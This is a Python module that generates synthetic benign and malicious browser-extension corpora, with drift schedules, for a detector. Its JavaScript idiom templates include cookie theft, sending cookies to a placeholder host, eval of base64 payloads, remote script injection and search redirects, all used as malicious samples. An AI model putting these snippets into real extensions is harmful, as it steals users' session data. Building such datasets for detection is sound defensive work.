"""Seeded synthetic extension corpora with an optional drift schedule.

Every record is a real package (manifest, scripts, filler assets) serialised
into a CRX/ZIP container and parsed back through :mod:`crxguard.container`,
so downstream stages see exactly what ingestion would produce.

Class-conditional parameters live in :class:`ClassProfile`. With drift
enabled, a share ``w(y)`` of the records in year ``y`` (``w`` from the
schedule) draws from the midpoint profile shared by both classes while the
rest keep their legacy profile, so at ``w = 1`` the classes coincide. Malicious records additionally belong
to rotating "campaigns" that carry year-specific marker permissions,
keywords, hosts and code idioms; with drift disabled a single campaign is
used for every year.
"""

from __future__ import annotations

import calendar
import datetime as dt
import hashlib
import json
import math
from dataclasses import dataclass, field, fields
from importlib import resources
from pathlib import Path

import numpy as np
import yaml

from crxguard.catalog import default_catalog
from crxguard.container import load_package, make_zip, write_crx
from crxguard.corpus import Corpus, ExtensionRecord
from crxguard.errors import InvalidConfig

CLASSES = ("benign", "malicious")

# ---------------------------------------------------------------- config


@dataclass(frozen=True)
class SynthConfig:
    years: tuple[int, ...] = (2018, 2019, 2020, 2021, 2022)
    benign_per_year: int = 900
    malicious_per_year: int = 100
    drift_enabled: bool = False
    drift_schedule: dict[int, float] = field(default_factory=dict)
    campaign_share: float = 0.6
    campaign_rotation: bool = True
    mv3_intro_year: int = 2021
    mv3_share: float = 0.5
    mv3_malicious_ambiguity: float = 0.0
    parse_error_rate: float = 0.01
    ambiguity: dict[str, float] = field(default_factory=lambda: {"benign": 0.05, "malicious": 0.1})
    ambiguity_range: dict[str, tuple[float, float]] = field(
        default_factory=lambda: {"benign": (0.15, 0.45), "malicious": (0.2, 0.7)})
    statements: dict[str, float] = field(default_factory=lambda: {"benign": 4.0, "malicious": 5.0})
    idiom_weights: dict[str, dict[str, float]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        problems = []
        if not self.years or list(self.years) != sorted(set(self.years)):
            problems.append("years must be a non-empty increasing list")
        if self.benign_per_year < 0 or self.malicious_per_year < 0:
            problems.append("class sizes must be non-negative")
        if self.benign_per_year + self.malicious_per_year == 0:
            problems.append("at least one record per year is required")
        for y, w in self.drift_schedule.items():
            if not 0.0 <= float(w) <= 1.0:
                problems.append(f"drift weight for {y} outside [0, 1]")
        for name in ("campaign_share", "mv3_share", "mv3_malicious_ambiguity", "parse_error_rate"):
            if not 0.0 <= getattr(self, name) <= 1.0:
                problems.append(f"{name} outside [0, 1]")
        if set(self.ambiguity) != set(CLASSES) or not all(0 <= v <= 1 for v in self.ambiguity.values()):
            problems.append("ambiguity needs benign and malicious shares in [0, 1]")
        if set(self.ambiguity_range) != set(CLASSES) or not all(
                0.0 <= lo <= hi <= 1.0 for lo, hi in self.ambiguity_range.values()):
            problems.append("ambiguity_range needs benign and malicious [low, high] within [0, 1]")
        if set(self.statements) != set(CLASSES) or min(self.statements.values()) <= 0:
            problems.append("statements needs positive benign and malicious means")
        for cls, weights in self.idiom_weights.items():
            if cls not in CLASSES:
                problems.append(f"idiom_weights: unknown class {cls!r}")
                continue
            for name, w in weights.items():
                if name not in IDIOMS or w < 0:
                    problems.append(f"idiom_weights.{cls}: bad entry {name!r}")
        if problems:
            raise InvalidConfig("; ".join(problems))

    def drift_weight(self, year: int) -> float:
        if not self.drift_enabled:
            return 0.0
        return float(self.drift_schedule.get(year, 0.0))

    def to_dict(self) -> dict:
        out = {}
        for f in fields(self):
            v = getattr(self, f.name)
            out[f.name] = list(v) if isinstance(v, tuple) else v
        return out


DRIFT_SCHEDULE = {2018: 0.0, 2019: 0.0, 2020: 0.3, 2021: 0.6, 2022: 0.9}


def drifted_config(**overrides) -> SynthConfig:
    return SynthConfig(**{"drift_enabled": True, "drift_schedule": dict(DRIFT_SCHEDULE),
                          "mv3_malicious_ambiguity": 0.5, **overrides})


def config_from_mapping(doc: dict) -> SynthConfig:
    if not isinstance(doc, dict):
        raise InvalidConfig("config root must be a mapping")
    known = {f.name for f in fields(SynthConfig)}
    unknown = set(doc) - known
    if unknown:
        raise InvalidConfig(f"unknown config keys: {sorted(unknown)}")
    kw = dict(doc)
    try:
        if "years" in kw:
            kw["years"] = tuple(int(y) for y in kw["years"])
        if "ambiguity_range" in kw:
            kw["ambiguity_range"] = {k: tuple(float(x) for x in v) for k, v in kw["ambiguity_range"].items()}
        if "drift_schedule" in kw:
            kw["drift_schedule"] = {int(k): float(v) for k, v in (kw["drift_schedule"] or {}).items()}
        return SynthConfig(**kw)
    except (TypeError, ValueError) as exc:
        raise InvalidConfig(str(exc)) from None


def load_config(path: str | Path | None = None) -> SynthConfig:
    """Load a YAML config; ``None`` loads the shipped default."""
    if path is None:
        text = resources.files("crxguard").joinpath("data/synth_default.yaml").read_text("utf-8")
    else:
        text = Path(path).read_text("utf-8")
    try:
        doc = yaml.safe_load(text) or {}
    except yaml.YAMLError as exc:
        raise InvalidConfig(f"config is not valid YAML: {exc}") from None
    return config_from_mapping(doc)


# ---------------------------------------------------------------- vocab pools

CATEGORIES = ("productivity", "fun", "web-development", "communication", "accessibility",
              "shopping", "photos", "news", "search-tools", "other")

BENIGN_WORDS = (
    "easily manage tabs bookmarks productivity tool simple fast open source privacy focus notes save "
    "pages reading list dark mode developer debug json format password translate dictionary screenshot "
    "capture edit accessibility font zoom color picker timer todo calendar email shortcut keyboard "
    "highlight text history clean session export import sync account work team meeting speed control "
    "volume audio grammar writing check spell code github shopping price compare weather forecast news "
    "reader feed rss clipboard copy paste link url shortener qr download manager image resize block ads "
    "tracker cookie consent popup window split screen language learn study flashcard quiz math "
    "calculator unit convert currency time zone clock alarm reminder habit fitness recipe travel map "
    "flight hotel job resume linkedin twitter reddit youtube podcast radio chess puzzle helps running "
    "works organized workflow offline backup restore"
).split()
MALICIOUS_WORDS = (
    "new tab wallpaper wallpapers hd theme themes background backgrounds beautiful free best amazing "
    "cute anime cars nature 4k stunning collection daily changing customize aesthetic cool live fans "
    "official star celebrity football gaming search safe secure quick access favorite sites shortcuts "
    "unlimited premium instant one click converter video downloader music player streaming movies tv "
    "shows watch online cinema"
).split()
MARKER_WORDS = (
    "coupon crypto wallet vpn proxy unblock ai chatgpt assistant gpt translator blocker speedtest "
    "cleaner booster cashback deals sports scores lottery horoscope recipes solitaire emoji stickers "
    "screen recorder"
).split()
FILLER_WORDS = "the and your with for is are this that it you all of to in on more".split()
BENIGN_REVIEW = (
    "great works perfectly useful thanks love helpful recommend simple saves time bug broken stopped "
    "working update please fix good nice excellent easy use needed exactly wish feature could better "
    "five stars crashes slow"
).split()
MALICIOUS_REVIEW = (
    "good love nice amazing best cool wow beautiful great awesome super like perfect wonderful "
    "fantastic excellent pictures wallpapers"
).split()
SYLLABLES = "ka zo ri mu te lo vi na pe su ro fi ba de xo ly qua tor".split()

BENIGN_HOSTS = (
    "<all_urls>", "https://*/*", "http://*/*", "*://*/*", "https://*/", "http://*/",
    "https://www.google.com/*", "https://mail.google.com/*", "https://docs.google.com/*",
    "https://github.com/*", "https://www.youtube.com/*", "https://*.google.com/*", "chrome://favicon/",
    "https://api.github.com/*", "https://www.linkedin.com/*", "https://twitter.com/*",
    "https://www.reddit.com/*", "https://*.slack.com/*", "https://outlook.live.com/*",
    "https://calendar.google.com/*", "https://drive.google.com/*", "https://translate.googleapis.com/*",
    "https://www.amazon.com/*", "https://*.wikipedia.org/*", "https://meet.google.com/*",
    "http://localhost/*", "file:///*",
)
_TLDS = ("com", "de", "fr", "co.uk", "it", "es", "ca", "com.au", "nl", "pl", "ru", "co.jp", "com.br",
         "co.in", "com.mx", "be", "ch", "at", "se", "dk", "no", "fi", "pt", "gr", "cz")
MALICIOUS_HOSTS = tuple(f"*://www.google.{t}/*" for t in _TLDS) + (
    "*://*.bing.com/*", "*://search.yahoo.com/*", "*://*.yandex.ru/*", "*://duckduckgo.com/*",
    "<all_urls>", "*://*/*",
)
MARKER_HOSTS = (
    "https://chat.openai.com/*", "https://web.whatsapp.com/*", "https://www.instagram.com/*",
    "https://www.facebook.com/*", "https://www.tiktok.com/*", "https://www.netflix.com/*",
    "https://www.twitch.tv/*", "https://discord.com/*", "https://www.ebay.com/*",
    "https://www.aliexpress.com/*", "https://www.booking.com/*", "https://*.zoom.us/*",
)
BENIGN_CS = (
    "<all_urls>", "https://*/*", "http://*/*", "*://*/*", "https://www.youtube.com/*",
    "https://mail.google.com/*", "https://github.com/*", "https://docs.google.com/*",
    "https://twitter.com/*", "https://www.linkedin.com/*", "https://www.reddit.com/*",
    "https://*.wikipedia.org/*", "https://meet.google.com/*", "https://www.amazon.com/*", "file:///*",
)
MALICIOUS_CS = ("<all_urls>", "*://*/*") + tuple(f"*://www.google.{t}/search*" for t in _TLDS[:12]) + (
    "*://search.yahoo.com/*", "*://*.bing.com/search*",
)

# permission -> (benign probability, malicious probability); others default to (0.01, 0.01)
PERMISSION_PROFILE = {
    "storage": (0.55, 0.6), "activeTab": (0.35, 0.15), "tabs": (0.3, 0.85), "contextMenus": (0.15, 0.2),
    "notifications": (0.1, 0.3), "alarms": (0.08, 0.1), "scripting": (0.2, 0.4), "cookies": (0.05, 0.35),
    "webRequest": (0.05, 0.7), "webRequestBlocking": (0.03, 0.6), "downloads": (0.04, 0.1),
    "history": (0.02, 0.2), "bookmarks": (0.03, 0.02), "clipboardWrite": (0.05, 0.02),
    "identity": (0.03, 0.01), "unlimitedStorage": (0.05, 0.3), "declarativeNetRequest": (0.05, 0.5),
    "sidePanel": (0.03, 0.0), "offscreen": (0.02, 0.05), "management": (0.01, 0.3), "topSites": (0.01, 0.25),
    "webNavigation": (0.04, 0.3), "search": (0.01, 0.15), "favicon": (0.01, 0.1),
    "clipboardRead": (0.02, 0.01), "idle": (0.02, 0.01), "tts": (0.01, 0.0), "fontSettings": (0.01, 0.0),
}
MV2_ONLY = {"webRequestBlocking"}
MV3_ONLY = {"scripting", "declarativeNetRequest", "sidePanel", "offscreen"}
MARKER_PERMISSIONS = (
    "privacy", "proxy", "debugger", "pageCapture", "tabCapture", "browsingData", "contentSettings",
    "desktopCapture", "nativeMessaging", "geolocation", "sessions", "power", "system.cpu",
    "system.memory", "tabGroups", "declarativeContent", "gcm", "processes",
)

# ---------------------------------------------------------------- JS idioms
# $A..$D identifiers, $S string, $N number, $H host

IDIOMS: dict[str, str] = {
    # benign-leaning
    "dom_query": "const $A = document.querySelector('#$S'); if ($A) { $A.classList.add('$S'); }",
    "event_listener": "document.addEventListener('click', function ($A) { console.log($A.target); });",
    "storage_get": "chrome.storage.sync.get(['$S'], function ($A) { $B.$S = $A.$S || $N; });",
    "arrow_map": "const $A = [$N, $N, $N].map(($B) => $B * 2).filter(($B) => $B > $N);",
    "class_decl": "class $A { constructor($B) { this.$B = $B; } render() { return '<div>' + this.$B + '</div>'; } }",
    "for_loop": "for (let $A = 0; $A < $B.length; $A++) { $C += $B[$A]; }",
    "fetch_json": "fetch('https://$H/v1/$S').then(($A) => $A.json()).then(($B) => { $C($B); });",
    "message_listener": "chrome.runtime.onMessage.addListener(($A, $B, $C) => { if ($A.type === '$S') { $C({ ok: true }); } });",
    "template": "const $A = `${$B}: ${$C}`;",
    "obj_literal": "const $A = { enabled: true, color: '$S', size: $N };",
    "async_fn": "async function $A($B) { const $C = await fetch($B); return $C.json(); }",
    "context_menu": "chrome.contextMenus.create({ id: '$S', title: '$S', contexts: ['selection'] });",
    "if_else": "if ($A > $N) { $B = '$S'; } else if ($A === 0) { $B = null; } else { $B = $A; }",
    "destructure": "const { $A, $B } = $C; const [$D] = $A;",
    # malicious-leaning
    "obf_array": ("var $A = ['\\x68\\x74', 'push', 'shift']; (function ($B, $C) { var $D = function (n) "
                  "{ while (--n) { $B['push']($B['shift']()); } }; $D(++$C); })($A, 0x1b3);"),
    "eval_atob": "eval(atob('$S'));",
    "fromcharcode": "var $A = String.fromCharCode($N, $N, $N, $N); document[$A] = $N;",
    "tab_redirect": ("chrome.tabs.onUpdated.addListener(function ($A, $B, $C) { if ($C.url && $C.url.indexOf('search') > -1) "
                     "{ chrome.tabs.update($A, { url: 'https://$H/q?' + encodeURIComponent($C.url) }); } });"),
    "xhr_exfil": ("var $A = new XMLHttpRequest(); $A.open('POST', 'https://$H/c', true); "
                  "$A.send(JSON.stringify({ u: navigator.userAgent, c: document.cookie }));"),
    "webrequest_block": ("chrome.webRequest.onBeforeRequest.addListener(function ($A) { return { redirectUrl: '$S' + $A.url }; }, "
                         "{ urls: ['<all_urls>'] }, ['blocking']);"),
    "interval_inject": ("setInterval(function () { var $A = document.createElement('script'); $A.src = '$S' + Math.random(); "
                        "document.head.appendChild($A); }, $N);"),
    "cookie_dump": ("chrome.cookies.getAll({}, function ($A) { for (var $B = 0; $B < $A.length; $B++) "
                    "{ $C += $A[$B].name + '=' + $A[$B].value + ';'; } });"),
    "new_function": "var $A = new Function('a', 'b', 'return a + b'); $A($N, $N);",
    "hex_math": "var $A = 0x$N ^ 0x$N; $B = $A >> 0x2 & 0xff;",
    # campaign markers (rare in benign code)
    "dnr_rules": ("chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: $N, priority: 1, "
                  "action: { type: 'redirect' }, condition: { urlFilter: '|http' } }] });"),
    "scripting_exec": "chrome.scripting.executeScript({ target: { tabId: $A }, func: () => { window.$B = $N; } });",
    "websocket": "const $A = new WebSocket('wss://$H'); $A.onmessage = ($B) => { $C(JSON.parse($B.data)); };",
    "proxy_obj": "const $A = new Proxy({}, { get: ($B, $C) => Reflect.get($B, $C) });",
    "switch_dispatch": "switch ($A) { case '$S': $B($N); break; case '$S': $B($N); break; default: $B(0); }",
    "try_json": "try { const $A = JSON.parse(localStorage.getItem('$S')); $B($A); } catch ($C) { $D(); }",
    "do_while": "let $A = 0; do { $A += $B($A); } while ($A < $N);",
    "generator": "function* $A() { let $B = 0; while (true) { yield $B++; } }",
    "labeled_loop": "outer: for (const $A of $B) { for (const $C of $A) { if ($C) { continue outer; } } }",
    "accessors": "const $A = { get value() { return this.$B; }, set value($C) { this.$B = $C; } };",
    "sequence_cond": "var $A = ($B = 1, $C = 2, $B + $C) ? $D : null;",
    "new_target": "function $A() { if (!new.target) { return new $A(); } this.$B = $N; }",
}
BENIGN_IDIOMS = ("dom_query", "event_listener", "storage_get", "arrow_map", "class_decl", "for_loop",
                 "fetch_json", "message_listener", "template", "obj_literal", "async_fn", "context_menu",
                 "if_else", "destructure")
MALICIOUS_IDIOMS = ("obf_array", "eval_atob", "fromcharcode", "tab_redirect", "xhr_exfil",
                    "webrequest_block", "interval_inject", "cookie_dump", "new_function", "hex_math")
MARKER_IDIOMS = ("dnr_rules", "scripting_exec", "websocket", "proxy_obj", "switch_dispatch", "try_json",
                 "do_while", "generator", "labeled_loop", "accessors", "sequence_cond", "new_target")
MV2_IDIOMS = {"webrequest_block"}
MV3_IDIOMS = {"dnr_rules", "scripting_exec"}

IDENTIFIERS = ("data", "item", "node", "value", "res", "cfg", "state", "list", "ctx", "tab", "msg",
               "opts", "cb", "el", "key", "url", "handler", "payload", "cache", "entry")
HOST_NAMES = ("api.example.com", "cdn.statichost.net", "analytics.metricsly.io", "update.extcloud.org",
              "go.redirhub.com", "track.clkstat.net", "s.searchboost.top", "cfg.tabnew.xyz")
BROKEN_STATEMENT = "const $A = $B?.$C;"  # optional chaining: rejected by the ES2017-era parser


def _default_idiom_weights() -> dict[str, dict[str, float]]:
    benign = {k: 1.0 for k in BENIGN_IDIOMS}
    benign.update({k: 0.08 for k in MALICIOUS_IDIOMS})
    benign.update({k: 0.06 for k in MARKER_IDIOMS})
    malicious = {k: 0.25 for k in BENIGN_IDIOMS}
    malicious.update({k: 1.0 for k in MALICIOUS_IDIOMS})
    malicious.update({k: 0.03 for k in MARKER_IDIOMS})
    return {"benign": benign, "malicious": malicious}


# ---------------------------------------------------------------- class profiles


@dataclass(frozen=True)
class ClassProfile:
    """Per-class generative parameters; ``(loc, sigma)`` pairs are lognormal in natural log space."""

    file_count: tuple[float, float]
    asset_size: tuple[float, float]
    users: tuple[float, float]
    rating_zero_prob: float
    rating_count: tuple[float, float]
    rating_avg: tuple[float, float]
    same_developer: tuple[float, float]
    js_lib_share: float
    n_hosts: float
    n_cs: float
    cs_matches: float
    background_prob: float
    related_overlap: float
    own_pool_prob: float
    statements: float
    permission_probs: tuple[float, ...]
    category_probs: tuple[float, ...]
    idiom_weights: tuple[float, ...]

    def numeric_means(self) -> dict[str, float]:
        """Closed-form means of the drifted numeric features."""
        def lognormal(p):
            return math.exp(p[0] + p[1] ** 2 / 2)
        return {
            "file_count": lognormal(self.file_count),
            "asset_size": lognormal(self.asset_size),
            "users": lognormal(self.users),
            "rating_count": (1 - self.rating_zero_prob) * lognormal(self.rating_count),
            "rating_avg": self.rating_avg[0],
            "same_developer": lognormal(self.same_developer),
            "n_hosts": self.n_hosts,
            "n_cs": self.n_cs,
            "statements": self.statements,
            "n_permissions": float(sum(self.permission_probs)),
        }


IDIOM_NAMES = tuple(IDIOMS)


def base_profiles(config: SynthConfig) -> dict[str, ClassProfile]:
    catalog = default_catalog()
    perms = {cls: tuple(PERMISSION_PROFILE.get(n, (0.01, 0.01))[i] for n in catalog.names)
             for i, cls in enumerate(CLASSES)}
    weights = _default_idiom_weights()
    for cls, override in config.idiom_weights.items():
        weights[cls].update(override)
    idioms = {cls: tuple(weights[cls].get(n, 0.0) for n in IDIOM_NAMES) for cls in CLASSES}
    cats = {
        "benign": (0.35, 0.1, 0.1, 0.08, 0.08, 0.07, 0.03, 0.04, 0.02, 0.13),
        "malicious": (0.2, 0.1, 0.03, 0.05, 0.08, 0.02, 0.3, 0.01, 0.2, 0.01),
    }
    return {
        "benign": ClassProfile(
            file_count=(math.log(16), 0.8), asset_size=(math.log(600), 1.0), users=(math.log(200), 2.0),
            rating_zero_prob=0.35, rating_count=(math.log(8), 1.5), rating_avg=(4.2, 0.6),
            same_developer=(math.log(1.2), 0.9), js_lib_share=0.15, n_hosts=1.5, n_cs=1.2, cs_matches=1.5,
            background_prob=0.6, related_overlap=0.75, own_pool_prob=1.0,
            statements=config.statements["benign"], permission_probs=perms["benign"],
            category_probs=cats["benign"], idiom_weights=idioms["benign"]),
        "malicious": ClassProfile(
            file_count=(math.log(141), 0.5), asset_size=(math.log(1200), 1.0), users=(math.log(3000), 1.5),
            rating_zero_prob=0.15, rating_count=(math.log(30), 1.2), rating_avg=(4.6, 0.3),
            same_developer=(math.log(18), 1.2), js_lib_share=0.35, n_hosts=3.0, n_cs=1.6, cs_matches=3.0,
            background_prob=0.9, related_overlap=0.15, own_pool_prob=1.0,
            statements=config.statements["malicious"], permission_probs=perms["malicious"],
            category_probs=cats["malicious"], idiom_weights=idioms["malicious"]),
    }


def _lerp(a, b, t):
    if isinstance(a, tuple):
        return tuple(_lerp(x, y, t) for x, y in zip(a, b))
    return a + (b - a) * t


def class_params(config: SynthConfig, label: str, shift: float = 0.0, ambiguity: float = 0.0) -> ClassProfile:
    """The base profile of ``label`` moved a fraction ``shift`` toward the other class.

    ``ambiguity`` (per-record) moves the result a further fraction of the
    remaining distance; ``shift = 0.5`` is the midpoint shared by both classes.
    """
    base = base_profiles(config)
    other = "malicious" if label == "benign" else "benign"
    t = shift + ambiguity * (1.0 - 2.0 * shift)
    own, opp = base[label], base[other]
    kw = {f.name: _lerp(getattr(own, f.name), getattr(opp, f.name), t) for f in fields(ClassProfile)}
    kw["own_pool_prob"] = 1.0 - t
    return ClassProfile(**kw)


def expected_means(config: SynthConfig, label: str, year: int) -> dict[str, float]:
    """Closed-form class-conditional means of the numeric features in ``year``.

    Ignores per-record ambiguity; drift is a two-component mixture of the
    legacy profile and the shared midpoint profile.
    """
    w = config.drift_weight(year) if config.drift_enabled else 0.0
    legacy = class_params(config, label, 0.0).numeric_means()
    mid = class_params(config, label, 0.5).numeric_means()
    return {k: (1.0 - w) * legacy[k] + w * mid[k] for k in legacy}


# ---------------------------------------------------------------- campaigns


@dataclass(frozen=True)
class Campaign:
    key: int
    permissions: tuple[str, ...]
    words: tuple[str, ...]
    hosts: tuple[str, ...]
    idioms: tuple[str, ...]
    template: tuple[str, ...]


def campaign_for(config: SynthConfig, seed: int, year: int) -> Campaign:
    key = year if (config.drift_enabled and config.campaign_rotation) else 0
    rng = np.random.default_rng([seed, 7919, key])
    idioms = tuple(rng.choice(MARKER_IDIOMS, size=2, replace=False).tolist())
    # a drifted year's campaign borrows benign idioms for its filler statements
    shift = config.drift_weight(year) / 2.0 if key else 0.0
    filler = [str(rng.choice(BENIGN_IDIOMS if rng.random() < shift else MALICIOUS_IDIOMS)) for _ in range(6)]
    template_idioms = list(idioms) + filler
    template = tuple(_render(rng, name) for name in template_idioms)
    return Campaign(
        key=key,
        permissions=tuple(sorted(rng.choice(MARKER_PERMISSIONS, size=3, replace=False).tolist())),
        words=tuple(rng.choice(MARKER_WORDS, size=3, replace=False).tolist()),
        hosts=tuple(rng.choice(MARKER_HOSTS, size=2, replace=False).tolist()),
        idioms=idioms,
        template=template,
    )


# ---------------------------------------------------------------- generators


def _lognormal_int(rng, p, lo=0) -> int:
    return max(lo, int(round(rng.lognormal(p[0], p[1]))))


def _pick(rng, pool):
    return pool[int(rng.integers(len(pool)))]


_CDF: dict[int, np.ndarray] = {}


def _zipf_index(rng, n: int) -> int:
    """Index into a pool of ``n`` where earlier entries are more popular (weights 1/rank)."""
    cdf = _CDF.get(n)
    if cdf is None:
        w = 1.0 / np.arange(1, n + 1)
        cdf = _CDF[n] = np.cumsum(w / w.sum())
    return min(int(np.searchsorted(cdf, rng.random(), side="right")), n - 1)


def _pseudo_word(rng) -> str:
    idx = rng.integers(0, len(SYLLABLES), size=int(rng.integers(2, 4)))
    return "".join(SYLLABLES[i] for i in idx)


def _render(rng, idiom: str) -> str:
    text = IDIOMS[idiom]
    for ph in ("$A", "$B", "$C", "$D"):
        if ph in text:
            name = _pick(rng, IDENTIFIERS) + ph[1].lower() + str(int(rng.integers(0, 100)))
            text = text.replace(ph, name)
    while "$S" in text:
        text = text.replace("$S", _pseudo_word(rng), 1)
    while "$N" in text:
        text = text.replace("$N", str(int(rng.integers(1, 1000))), 1)
    while "$H" in text:
        text = text.replace("$H", _pick(rng, HOST_NAMES), 1)
    return text


def _script(rng, prof: ClassProfile, n_statements: int, allowed: np.ndarray, wrap_iife: bool) -> str:
    w = np.asarray(prof.idiom_weights) * allowed
    names = rng.choice(len(IDIOM_NAMES), size=n_statements, p=w / w.sum())
    body = "\n".join(_render(rng, IDIOM_NAMES[i]) for i in names)
    if wrap_iife:
        return "(function () {\n" + body + "\n})();"
    return body


def _text(rng, own_pool, other_pool, own_prob, n, extra=()) -> str:
    r = rng.random(n)
    own = rng.random(n) < own_prob
    picks = rng.integers(0, 1 << 30, size=n)
    words = []
    for k in range(n):
        if r[k] < 0.25:
            words.append(FILLER_WORDS[picks[k] % len(FILLER_WORDS)])
        elif r[k] < 0.32:
            words.append(_pseudo_word(rng))
        elif r[k] < 0.35:
            words.append(MARKER_WORDS[picks[k] % len(MARKER_WORDS)])
        else:
            pool = own_pool if own[k] else other_pool
            words.append(pool[picks[k] % len(pool)])
    words.extend(extra)
    order = rng.permutation(len(words))
    return " ".join(words[i] for i in order).capitalize() + "."


def _ext_id(seed: int, year: int, label: str, i: int) -> str:
    digest = hashlib.sha256(f"{seed}:{year}:{label}:{i}".encode()).digest()
    return "".join(chr(ord("a") + (b & 0x0F)) for b in digest[:16]) + \
        "".join(chr(ord("a") + (b >> 4)) for b in digest[:16])


def _pick_from_pools(rng, own, other, own_prob, k):
    out = []
    for _ in range(k):
        pool = own if rng.random() < own_prob else other
        out.append(pool[_zipf_index(rng, len(pool))])
    return out


def synthesize_record(config: SynthConfig, seed: int, year: int, label: str, i: int) -> ExtensionRecord:
    rng = np.random.default_rng([seed, year, CLASSES.index(label), i])
    ambiguity = 0.0
    if rng.random() < config.ambiguity[label]:
        ambiguity = float(rng.uniform(*config.ambiguity_range[label]))
    mal = label == "malicious"
    month = int(rng.integers(1, 13))
    day = int(rng.integers(1, calendar.monthrange(year, month)[1] + 1))
    if config.drift_enabled:
        mv3 = year >= config.mv3_intro_year and rng.random() < config.mv3_share
    else:
        mv3 = rng.random() < config.mv3_share
    mv = 3 if mv3 else 2
    if mal and mv3:
        ambiguity = min(1.0, ambiguity + config.mv3_malicious_ambiguity)
    drifted = config.drift_enabled and rng.random() < config.drift_weight(year)
    prof = class_params(config, label, 0.5 if drifted else 0.0, ambiguity)
    own_h, oth_h = (MALICIOUS_HOSTS, BENIGN_HOSTS) if mal else (BENIGN_HOSTS, MALICIOUS_HOSTS)
    own_cs, oth_cs = (MALICIOUS_CS, BENIGN_CS) if mal else (BENIGN_CS, MALICIOUS_CS)
    own_w, oth_w = (MALICIOUS_WORDS, BENIGN_WORDS) if mal else (BENIGN_WORDS, MALICIOUS_WORDS)
    own_r, oth_r = (MALICIOUS_REVIEW, BENIGN_REVIEW) if mal else (BENIGN_REVIEW, MALICIOUS_REVIEW)

    campaign = campaign_for(config, seed, year) if mal and rng.random() < config.campaign_share else None

    catalog = default_catalog()
    probs = np.asarray(prof.permission_probs)
    perms = {n for n, p, r in zip(catalog.names, probs, rng.random(len(probs))) if r < p}
    perms -= MV2_ONLY if mv == 3 else MV3_ONLY
    if campaign:
        perms |= {p for p in campaign.permissions if rng.random() < 0.8}

    hosts = set(_pick_from_pools(rng, own_h, oth_h, prof.own_pool_prob, int(rng.poisson(prof.n_hosts))))
    if not mal and rng.random() < 0.3:
        hosts.add(f"https://*.{_pseudo_word(rng)}.com/*")
    if rng.random() < 0.04:
        hosts.add(str(_pick(rng, MARKER_HOSTS)))
    if campaign:
        hosts |= {h for h in campaign.hosts if rng.random() < 0.7}

    allowed = np.array([not ((mv == 3 and n in MV2_IDIOMS) or (mv == 2 and n in MV3_IDIOMS))
                        for n in IDIOM_NAMES], dtype=float)
    n_cs = int(rng.poisson(prof.n_cs))
    has_bg = rng.random() < prof.background_prob or n_cs == 0
    files: dict[str, bytes] = {}
    content_scripts = []
    for c in range(n_cs):
        matches = sorted(set(_pick_from_pools(rng, own_cs, oth_cs, prof.own_pool_prob,
                                              1 + int(rng.poisson(prof.cs_matches - 1)))))
        path = f"js/content{c}.js"
        n_st = 1 + int(rng.poisson(prof.statements))
        files[path] = _script(rng, prof, n_st, allowed, mal and rng.random() < 0.5).encode()
        content_scripts.append({"matches": matches, "js": [path]})
    bg_paths = []
    if has_bg:
        if campaign:
            stmts = [s if rng.random() > 0.1 else _render(rng, _pick(rng, MALICIOUS_IDIOMS))
                     for s in campaign.template]
            if mv3:
                # ports to the new manifest format rewrite part of the shared template
                stmts = [s if rng.random() >= config.mv3_malicious_ambiguity
                         else _render(rng, _pick(rng, BENIGN_IDIOMS)) for s in stmts]
            stmts = [s for s in stmts if not ((mv == 3 and "webRequest.onBefore" in s) or
                                              (mv == 2 and ("declarativeNetRequest" in s or "chrome.scripting" in s)))]
            text = "\n".join(stmts) or _render(rng, "eval_atob")
        else:
            text = _script(rng, prof, 1 + int(rng.poisson(prof.statements)), allowed, mal and rng.random() < 0.5)
        bg_paths.append("background.js")
        files["background.js"] = text.encode()
        if mv == 2 and rng.random() < 0.3:
            bg_paths.append("js/bg_util.js")
            files["js/bg_util.js"] = _script(rng, prof, 2, allowed, False).encode()
    if rng.random() < config.parse_error_rate:
        target = content_scripts[0]["js"][0] if content_scripts else bg_paths[0]
        files[target] += ("\n" + _render_broken(rng)).encode()

    manifest: dict = {"manifest_version": mv, "name": _pseudo_word(rng).capitalize(),
                      "version": f"1.{int(rng.integers(0, 20))}.{int(rng.integers(0, 10))}"}
    if mv == 3:
        manifest["permissions"] = sorted(perms)
        if hosts:
            manifest["host_permissions"] = sorted(hosts)
        if has_bg:
            manifest["background"] = {"service_worker": "background.js"}
    else:
        manifest["permissions"] = sorted(perms) + sorted(hosts)
        if has_bg:
            manifest["background"] = {"scripts": bg_paths}
    if content_scripts:
        manifest["content_scripts"] = content_scripts
    files["manifest.json"] = json.dumps(manifest, indent=2).encode()

    target_files = _lognormal_int(rng, prof.file_count, lo=len(files) + 1)
    n_assets = target_files - len(files)
    for a in range(n_assets):
        size = _lognormal_int(rng, prof.asset_size, lo=16)
        if rng.random() < prof.js_lib_share:
            name = f"lib/module{a}.js"
            files[name] = (f"/* {name} */\n" + "var x%d = 0;\n" % a * (size // 14 + 1))[:size].encode()
        else:
            name = f"assets/res{a}.{('png', 'json', 'css', 'svg')[a % 4]}"
            files[name] = rng.integers(0, 256, size=size, dtype=np.uint8).tobytes()

    fmt = str(rng.choice(["crx3", "crx2", "zip"], p=[0.8, 0.15, 0.05]))
    payload = make_zip(files, compress=lambda name: not name.startswith("assets/"))
    header = rng.integers(0, 256, size=int(rng.integers(64, 512)), dtype=np.uint8).tobytes()
    if fmt == "crx2":
        data = write_crx(payload, "crx2", public_key=header[:162], signature=header[162:])
    else:
        data = write_crx(payload, fmt, header=header)
    pkg_id = _ext_id(seed, year, label, i)
    pkg = load_package(data, pkg_id)

    extra_words = list(campaign.words) if campaign else []
    description = _text(rng, own_w, oth_w, prof.own_pool_prob, int(rng.integers(6, 14)),
                        [w for w in extra_words if rng.random() < 0.6])
    summary = _text(rng, own_w, oth_w, prof.own_pool_prob, int(rng.integers(15, 40)),
                    [w for w in extra_words if rng.random() < 0.8])
    rating_count = 0 if rng.random() < prof.rating_zero_prob else _lognormal_int(rng, prof.rating_count, lo=1)
    n_reviews = min(rating_count, int(rng.integers(0, 6)))
    reviews = tuple(_text(rng, own_r, oth_r, prof.own_pool_prob, int(rng.integers(3, 10)))
                    for _ in range(n_reviews))
    rating_avg = float(np.clip(rng.normal(*prof.rating_avg), 1.0, 5.0)) if rating_count else 0.0

    bprobs = np.asarray(base_profiles(config)["benign"].permission_probs)
    related = []
